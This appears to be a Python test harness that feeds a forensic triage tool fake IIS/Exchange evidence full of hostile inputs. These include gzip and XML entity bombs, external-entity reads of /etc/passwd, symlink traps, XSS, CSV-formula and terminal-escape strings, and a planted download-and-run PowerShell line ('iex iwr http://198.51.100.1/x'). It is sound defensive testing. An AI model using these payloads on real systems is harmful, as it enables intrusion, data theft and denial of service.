#!/usr/bin/env python3
"""Evidence that somebody made on purpose: hunted with the real program. Usage: run.py AFTERPATCH FOLDER [CASE...]

Each case builds a small server with something nasty in it, hunts it, and asserts what must hold for all of them: an exit code of a
verdict, a whole report, no control characters on the terminal, bounded memory and time; and what the case itself promises.
"""
import gzip, json, os, re, shutil, signal, struct, subprocess, sys, time

MEMORY_MAX, SECONDS_MAX = 256 << 20, 60
SANITIZED = False

W3C = ("#Software: Microsoft Internet Information Services 8.5\r\n#Version: 1.0\r\n#Date: 2021-03-03 00:00:00\r\n#Fields: date time s-ip cs-method "
       "cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n")
IIS = "C/inetpub/logs/LogFiles/W3SVC1/"
WEB = "C/inetpub/wwwroot/aspnet_client/"
PROXY = "C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/"
HEAD = ("DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,UrlHost,UrlStem,IsAuthenticated,AuthenticatedUser,AnchorMailbox,"
        "UserAgent,ClientIpAddress,ServerHostName,HttpStatus,Method")
SITES = ('<configuration><system.applicationHost><sites><site name="Default Web Site" id="1"><application path="/"><virtualDirectory path="/" '
         'physicalPath="%SystemDrive%\\inetpub\\wwwroot"/></application></site></sites></system.applicationHost></configuration>')
ODD = ["\x1b]0;x\x07\x1b[2J", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "=cmd|'/c calc'!A0", "@SUM(1)", "-2+3", "\u202egnp.exe",
       "\x9b31m", "\"'><svg/onload=alert(1)>", "javascript:alert(1)", "\u2028x", "\ufeff", "a,b\"c", "\t=1"]


def row(at="2021-03-03 10:00:00", uri="/owa/auth/logon.aspx", query="-", method="GET", client="203.0.113.9", agent="Mozilla/5.0", status="200"):
    return f"{at} 192.0.2.5 {method} {uri} {query} 443 - {client} {agent} - {status} 0 0 15\r\n"


def put(root, path, body):
    path = os.path.join(os.fsencode(root), os.fsencode(path))
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(body.encode("utf-8", "surrogateescape") if isinstance(body, str) else body)


def server(root):
    put(root, IIS + "u_ex210303.log", W3C + row() * 50)
    put(root, PROXY + "HttpProxy_2021030310-1.LOG", HEAD + "\r\n#Fields: " + HEAD + "\r\n" +
        "2021-03-03T10:00:00.000Z,1,15,1,1979,3,mail.example.org,/ecp/,true,a@example.org,,Mozilla,198.51.100.7,MAIL01,200,GET\r\n")
    put(root, WEB + "system_web/x.txt", "hi")
    put(root, "C/inetpub/wwwroot/iisstart.htm", "<html>")
    put(root, "C/Windows/System32/inetsrv/config/applicationHost.config", SITES)


class Failed(Exception):
    pass


def need(ok, why):
    if not ok:
        raise Failed(why)


def refused(report, part, what):
    need(any(part in r["path"] and what in r["what"] and r["hint"] for r in report["refused"]),
         f"{part} is not refused as \"{what}\" with a hint: {report['refused'][:5]}")


def damaged(report, part, what=""):
    need(any(part in d["path"] and what in d["what"] for c in report["coverage"] for d in c["damaged"]), f"{part} is not told as damaged")


# ---- cases: build(root), then check(report) ----

def gz(root):
    whole = gzip.compress((W3C + row() * 20000).encode(), mtime=0)
    put(root, IIS + "cut.log.gz", whole[:len(whole) // 2])
    put(root, IIS + "short.log.gz", whole[:11])
    put(root, IIS + "tail.log.gz", whole + b"garbage")
    put(root, IIS + "members.log.gz", whole * 3)
    yield
    r = yield
    for name in ("cut", "short", "tail"):
        damaged(r, name + ".log.gz", "gz")


def bomb(root):
    import zlib
    c = zlib.compressobj(9, wbits=31)
    put(root, IIS + "bomb.log.gz", b"".join(c.compress(b"A" * (1 << 20)) for _ in range(300)) + c.flush())
    yield
    damaged((yield), "bomb.log.gz")


def long_rows(root):
    put(root, IIS + "line.log", W3C.encode() + b"2021-03-04 00:00:00 192.0.2.5 GET /" + b"A" * 20_000_000 + b"\r\n" + row().encode())
    put(root, PROXY + "HttpProxy_2021030311-1.LOG", HEAD + "\r\n#Fields: " + HEAD + "\r\n2021-03-04T00:00:00.000Z,\"" + "A\"\",\r\n" * 1_000_000)
    put(root, IIS + "nul.log", W3C.encode() + b"\0" * 5_000_000 + row().encode())
    put(root, IIS + "heads.log", W3C * 20000)
    put(root, IIS + "wide.log", "#Fields: " + " ".join(f"c{i}" for i in range(5000)) + "\r\n" + "v " * 5000 + "\r\n")
    yield
    r = yield
    damaged(r, "line.log", "longer")
    damaged(r, "nul.log", "NUL")


def line_ends(root):
    text = W3C + "".join(row(at=f"2021-03-04 00:00:{i:02d}", uri="/aspnet_client/a.aspx", method="POST") for i in range(60))
    os.remove(os.path.join(root, IIS + "u_ex210303.log"))
    put(root, IIS + "cr.log", text.replace("\r\n", "\r"))
    put(root, IIS + "le.log", b"\xff\xfe" + text.encode("utf-16-le"))
    put(root, IIS + "be.log", text.encode("utf-16-be"))
    yield
    r = yield
    need(r["coverage"][0]["records"] == 180, "rows of every encoding and line end are read")


def numbers(root):
    rows = "".join(row(status=s, uri="/aspnet_client/x.aspx", method="POST") for s in ["-1", "9" * 30, "0", "2e2", "NaN", ""])
    rows += "".join(row(at=t, uri="/aspnet_client/x.aspx") for t in ["0000-00-00 00:00:00", "9999-12-31 23:59:59", "2021-13-45 99:99:99", "1969-12-31 23:59:59", "- -"])
    put(root, IIS + "numbers.log", W3C + rows)
    yield
    yield


def flood_of_requests(root):
    put(root, IIS + "flood.log", W3C + "".join(row(uri=f"/aspnet_client/x{i}.aspx", method="POST", client=f"198.51.{i // 250 % 250}.{i % 250}", agent=f"a{i}")
                                               for i in range(60000)))
    yield
    r = yield
    need(r["omitted"]["findings"] > 0, "what was left out is counted")


def flood_of_pages(root):
    for i in range(60):
        for k in range(500):
            put(root, WEB + f"{'q' * 100}{i}/{'f' * 60}{k}.aspx", "x")
    yield
    yield


def fs(root):
    for link, to in (("passwd.aspx", "/etc/passwd"), ("up", ".."), ("self", "self"), ("top", "/"), ("dangling", "/nonexistent")):
        os.symlink(to, os.path.join(root, WEB, link))
    os.mkfifo(os.path.join(root, WEB, "pipe.aspx"))
    os.mkfifo(os.path.join(root, IIS, "u_ex210309.log"))
    for name in (b"new\nline.aspx", b"esc\x1b[31m\x07.aspx", b"bad\xff\xfe.aspx", b"L" * 240 + b".aspx", b"trail.aspx.", b"trail.aspx ", b"con.aspx", b"nul",
                 b"a:b.aspx", b"back\\slash.aspx", b"Case.aspx", b"case.aspx", b"CASE.ASPX", b"...", b"\xc0\xaf.aspx", b"\xed\xa0\x80.aspx"):
        put(root, os.fsencode(WEB) + name, b"hello")
    at = os.getcwd()
    os.chdir(os.path.join(root, "C/inetpub/wwwroot"))
    for _ in range(300):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(at)
    yield
    r = yield
    for name in ("passwd.aspx", "dangling", "top"):
        refused(r, name, "link: not followed")
    for name in ("pipe.aspx", "u_ex210309.log"):
        refused(r, name, "not a plain file")
    refused(r, "slash.aspx", "unsafe name")
    refused(r, "\\d\\d\\d", "too deep")
    need("root:" not in json.dumps(r), "nothing of this machine is in the report")


def parsers(root):
    lol = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">' + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9)) + "]><configuration>&j;</configuration>"
    put(root, WEB + "web.config", lol)
    put(root, WEB + "1/web.config", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><configuration><a>&x;</a></configuration>')
    put(root, WEB + "2/web.config", "<configuration>" + "<a>" * 500000)
    put(root, WEB + "3/web.config", "<configuration " + "".join(f'a{i}="x" ' for i in range(200000)) + "/>")
    temp = "C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/a/b/"
    put(root, temp + "x.aspx.cdcab7d2.compiled", "<preserve virtualPath='/aspnet_client/gone.aspx' assembly='../../etc'><filedeps>" + "<filedep name='/a'/>" * 100000)
    pe = b"MZ" + b"\0" * 58 + struct.pack("<I", 0x80) + b"\0" * 64 + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 0xffff, 0, 0xffffffff, 0xffffffff, 0xffff, 0x2022)
    put(root, temp + "App_Web_x.dll", pe + struct.pack("<H", 0x20b) + b"\xff" * 400)
    task = "<Task><Actions><Exec><Command>%s</Command></Exec></Actions></Task>"
    tasks = "C/Windows/System32/Tasks/"
    put(root, tasks + "Entities", lol.replace("<configuration>&j;</configuration>", task % "&j;"))
    put(root, tasks + "External", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + task % "&x;")
    put(root, tasks + "Deep", "<Task>" + "<Actions>" * 500000)
    put(root, tasks + "Long", task % ("powershell -c \"" + "'a'+" * 200000))
    put(root, tasks + "Actions", "<Task><Actions>" + "<Exec><Command>x</Command></Exec>" * 20000)
    with open(os.path.join(root, tasks, "Huge"), "wb") as f:
        f.write(b"<Task><Actions><Exec><Command>" + b"a" * (1 << 20))
        f.truncate(100 << 20)
    put(root, "C/case/vdirs.json", "[" * 500000)
    put(root, "C/case/vdirs.txt", "ExternalUrl : x\n" + " y\n" * 500000)
    put(root, "C/inetpub/history/CFGHISTORY_0000000001/applicationHost.config", SITES.replace("</configuration>", "<system.webServer><globalModules>" + "".join(
        f'<add name="m{i}" image="C:\\ProgramData\\{i}.dll"/>' for i in range(30000)) + "</globalModules></system.webServer></configuration>"))
    put(root, WEB + "nest.aspx", "<%@ Page Language=\"C#\"%><% x=" + "(" * 500000 + " %>")
    put(root, WEB + "open.aspx", "<%" * 500000)
    put(root, WEB + "big.aspx", b"<%@ Page %>\n" + b"<% var x = 1; %>\n" * 1_000_000)
    put(root, "C/Windows/Temp/notes.txt", b"MDMP" + b"\0" * 200)
    put(root, "C/ProgramData/a.png", b"PK\3\4" + b"x" * 500)
    yield
    r = yield
    for name in ("aspnet_client\\web.config", "1\\web.config", "2\\web.config", "3\\web.config", "Tasks\\Deep", "Tasks\\Actions", "Tasks\\Huge", "CFGHISTORY_0000000001"):
        damaged(r, name)
    refused(r, "vdirs.json", "read in part")
    shown = json.dumps(r["findings"])
    need("notes.txt" in shown and "a.png" in shown, "first bytes tell a dump and an archive, whatever they are called")


def leftovers(root):
    binding = b'CommandLineEventConsumer.Name="%d"\0__EventFilter.Name="%d"\0CommandLineEventConsumer\0C:\\ProgramData\\%d.exe\0%d\0'
    put(root, "C/Windows/System32/wbem/Repository/OBJECTS.DATA", b"".join(binding % (i, i, i, i) for i in range(150000)))
    wide = lambda s: s.encode("utf-16-le") + b"\0\0"
    put(root, "C/ProgramData/Microsoft/Network/Downloader/qmgr.db", b"".join(
        wide(f"C:\\ProgramData\\{i}.exe") + wide(f"http://198.51.100.1/{i}.exe") for i in range(100000)))
    put(root, "C/Windows/Prefetch/A.EXE-1.pf", b"MAM\4" + struct.pack("<I", 0x7fffffff) + b"x" * 300)
    put(root, "C/Windows/Prefetch/B.EXE-2.pf", b"MAM\4" + struct.pack("<I", 8 << 20) + b"\x99" * 256 + b"x" * 4096)
    defender = "C/ProgramData/Microsoft/Windows Defender/"
    put(root, defender + "Support/MPLog-1.log", "".join(f"2021-03-09T01:10:00.000Z DETECTION_ADD#1 Test:Win32/A.{i} file:C:\\ProgramData\\{i}.exe\n" for i in range(60000)))
    put(root, defender + "Quarantine/Entries/x", b"\0" * 400)
    put(root, defender + "Scans/History/Service/DetectionHistory/01/x", b"\xff" * (5 << 20))
    put(root, "C/Users/a/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", "`\n" * 500000 + "iex iwr http://198.51.100.1/x\n" * 20000)
    dump = b"MDMP\x93\xa7\0\0" + struct.pack("<II", 128, 32) + b"\0" * 16 + struct.pack("<III", 4, 0xffffffff, 1600) * 128
    put(root, "C/ProgramData/many.dmp", dump + struct.pack("<I", 0xffffffff) + struct.pack("<I", 1600) * 20000)
    put(root, "C/ProgramData/svchost.exe", b"MZ" + b".idata\0.symtab\0" + bytes.fromhex("3077af0c9274080241e1c107e6d618e6") * 200000)
    for i in range(2000):
        put(root, f"C/Users/Public/{i}/how_to_decrypt.txt", "All your files are encrypted. Pay in bitcoin by the Tor Browser.")
    yield
    r = yield
    for name in ("OBJECTS.DATA", "qmgr.db", "A.EXE-1.pf", "B.EXE-2.pf", "MPLog-1.log", "Entries\\x", "DetectionHistory"):
        damaged(r, name)
    need(len(r["ways_back"]) < 2500, "what a flood may tell is bounded")
    need(r["omitted"]["findings"] > 0, "what was left out is counted")


def words(root):
    body = ""
    for i, s in enumerate(ODD):
        s = s.replace(" ", "+")
        body += row(at=f"2021-03-03 11:{i:02d}:00", uri=f"/aspnet_client/{s}.aspx", query=s, method="POST", agent=s, client=s if i % 3 else "203.0.113.7")
        put(root, WEB + s.replace("/", "_") + ".aspx", "<%@ Page %><% Response.Write(1) %>" + s)
    put(root, IIS + "odd.log", W3C + body)
    yield
    yield


def unreadable(root):
    os.chmod(os.path.join(root, WEB), 0)
    put(root, IIS + "u_ex210304.log", W3C)
    os.chmod(os.path.join(root, IIS, "u_ex210304.log"), 0)
    yield "nobody"
    r = yield
    refused(r, "aspnet_client", "unreadable")
    refused(r, "u_ex210304.log", "unreadable")
    web = [c for c in r["coverage"] if c["family"] == "web_roots"][0]
    need(web["covers_window"] != "full" and web["missing"], "what could not be read is not covered")


CASES = [gz, bomb, long_rows, line_ends, numbers, flood_of_requests, flood_of_pages, fs, parsers, leftovers, words, unreadable]


# ---- what holds for every hunt ----

class Page:
    """report.html: every tag and attribute is one of ours."""
    def __init__(self, text):
        from html.parser import HTMLParser
        bad = []

        class P(HTMLParser):
            def handle_starttag(self, tag, attrs):
                if tag in ("script", "img", "iframe", "object", "embed", "link", "base", "form") or any(k.startswith("on") or (v or "").strip().lower().startswith("javascript:") for k, v in attrs):
                    bad.append((tag, attrs))
        P().feed(text)
        need(not bad, f"foreign markup in report.html: {bad[:3]}")


def hunt(program, root, out, user=None):
    args = [program, "hunt", "--jobs", "2", "--out", out, "--organisation", "\u202e<b>=cmd|x", root]
    demote = None
    if user and os.getuid() == 0:
        import pwd
        uid = pwd.getpwnam(user).pw_uid
        os.makedirs(out, exist_ok=True)
        os.chown(out, uid, -1)
        demote = lambda: os.setuid(uid)
    at = time.monotonic()
    p = subprocess.run(args, stdin=subprocess.DEVNULL, capture_output=True, timeout=600, preexec_fn=demote)
    seconds = time.monotonic() - at
    need(p.returncode in (0, 3, 4, 5, 6, 7), f"exit code {p.returncode}: {p.stderr[-2000:]!r}")
    for name, text in (("stdout", p.stdout), ("stderr", p.stderr)):
        need(not re.search(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]", text), f"control characters on {name}")
    need(sorted(n for n in os.listdir(out) if "part" in n) == [], "half a file is left")
    with open(os.path.join(out, "report.json"), encoding="utf-8") as f:
        report = json.load(f)
    with open(os.path.join(out, "report.html"), encoding="utf-8") as f:
        Page(f.read())
    import csv
    for name in ("timeline.csv", "manifest.csv"):
        with open(os.path.join(out, name), encoding="utf-8", newline="") as f:
            for line in csv.reader(f):
                need(not re.search("[\x80-\x9f\u202a-\u202e\u2066-\u2069\ufeff]", "".join(line)), f"hidden characters in {name}: {line}")
                need(not any(cell[:1] in "=+-@\t" and len(cell) > 1 and not re.fullmatch(r"-[0-9]+", cell) for cell in line), f"a formula in {name}: {line}")
    if not SANITIZED:
        need(report["run"]["peak_memory_bytes"] < MEMORY_MAX, f"{report['run']['peak_memory_bytes']} bytes of memory")
        need(seconds < SECONDS_MAX, f"{seconds:.1f} seconds")
    return report


# ---- the operator's day ----

def disk_and_signals(program, base):
    root, out = os.path.join(base, "day"), os.path.join(base, "day-out")
    server(root)
    put(root, IIS + "more.log", W3C + row() * 400000)
    os.makedirs(out)
    put(out, "report.json", "old")
    # A disk that is full while the report is written, as far as a limit on file sizes can play it.
    import resource
    limit = lambda: (signal.signal(signal.SIGXFSZ, signal.SIG_IGN), resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096)))
    p = subprocess.run([program, "hunt", "--quiet", "--out", out, root], capture_output=True, preexec_fn=limit)
    need(p.returncode == 1 and b"report.json" in p.stderr and b"hint" in p.stderr, f"a full disk: {p.returncode} {p.stderr!r}")
    need(os.listdir(out) == ["report.json"] and open(os.path.join(out, "report.json")).read() == "old", "the old report stays")
    for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
        for wait in (0.02, 0.1, 0.2):
            p = subprocess.Popen([program, "hunt", "--quiet", "--out", out, root], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            time.sleep(wait)
            p.send_signal(sig)
            p.wait()
            need(not [n for n in os.listdir(out) if ".part" in n], "a signal leaves no half file")
    p = subprocess.run([program, "hunt", "--json", "-", root], capture_output=True)
    json.loads(p.stdout)
    p = subprocess.run(["/bin/sh", "-c", '"$0" hunt --quiet --out "$1" "$2" <&- >&- 2>&-', program, out, root])
    need(p.returncode in (0, 3, 4, 5, 6, 7), f"closed streams: {p.returncode}")
    with open(os.path.join(out, "report.json"), encoding="utf-8") as f:
        json.load(f)


def main():
    global SANITIZED
    program, base = os.path.abspath(sys.argv[1]), os.path.abspath(sys.argv[2])
    only, failed = sys.argv[3:], 0
    with open(program, "rb") as f:
        SANITIZED = b"__asan_init" in f.read()
    os.makedirs(base, exist_ok=True)
    for case in CASES + [disk_and_signals]:
        name = case.__name__
        if only and name not in only:
            continue
        here = os.path.join(base, name)
        subprocess.run(["chmod", "-R", "u+rwX", here], stderr=subprocess.DEVNULL)
        shutil.rmtree(here, ignore_errors=True)
        os.makedirs(here)
        try:
            if case is disk_and_signals:
                case(program, here)
            else:
                root = os.path.join(here, "evidence")
                server(root)
                steps = case(root)
                user = next(steps)
                if user and os.getuid() == 0 and subprocess.run(["/bin/sh", "-c", f"su {user} -s /bin/sh -c 'test -x {program} && test -r {root}/C'"], stderr=subprocess.DEVNULL).returncode:
                    print(f"hostile: {name}: skipped, {user} cannot reach the program")
                    continue
                next(steps)
                report = hunt(program, root, os.path.join(here, "report"), user)
                try:
                    steps.send(report)
                except StopIteration:
                    pass
        except Failed as why:
            failed += 1
            print(f"hostile: {name}: {why}")
        else:
            subprocess.run(["chmod", "-R", "u+rwX", here], stderr=subprocess.DEVNULL)
            shutil.rmtree(here, ignore_errors=True)
    print(f"hostile: {failed} failed")
    return failed != 0


if __name__ == "__main__":
    sys.exit(main())
